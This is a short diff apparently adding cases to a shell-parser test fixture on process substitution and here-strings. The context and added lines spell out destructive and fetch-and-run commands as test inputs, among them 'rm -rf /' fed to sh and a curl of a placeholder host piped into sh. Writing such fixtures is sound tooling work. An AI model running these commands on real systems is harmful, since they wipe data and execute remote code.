@@ -16,3 +16,5 @@ while read l; do echo "$l"; done < <(ls)
 exec 3<>/dev/tcp/example.com/80
 #--- output into a process substitution is a pipe: the shell inside reads echo's text
 echo 'rm -rf /' > >(sh); sh < <(echo 'rm -rf /'); curl -so >(sh) https://x.example
+#--- a here-string after a subshell, a group or a case (the grammar reads an ERROR `<<` then `<`)
+( sh ) <<< 'rm -rf /'; { cat; } 3<<< x; case a in a) sh;; esac <<<'id'; ( sh ) << < x
